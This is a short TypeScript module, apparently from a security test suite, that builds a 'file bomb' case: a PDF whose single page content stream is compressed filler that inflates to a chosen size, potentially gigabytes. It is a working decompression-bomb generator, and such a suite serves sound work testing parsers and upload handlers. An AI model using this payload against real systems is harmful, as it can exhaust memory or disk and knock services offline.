// The content of a PDF page is a compressed stream; nothing in the file bounds its decoded size.
import { deflateSync } from "node:zlib";
import { buildPdf, buildStream } from "../../build-pdf.ts";
import { buildFileBomb } from "../../families/file-bomb.ts";

export const filePdfStream = buildFileBomb({
  name: "file-pdf-stream",
  attack: "a PDF whose page inflates to gigabytes",
  type: "application/pdf",
  build: (megabytes) =>
    buildPdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
      buildStream(deflateSync(Buffer.alloc(megabytes * 1_048_576, "q ")), "/Filter/FlateDecode"),
    ]),
});
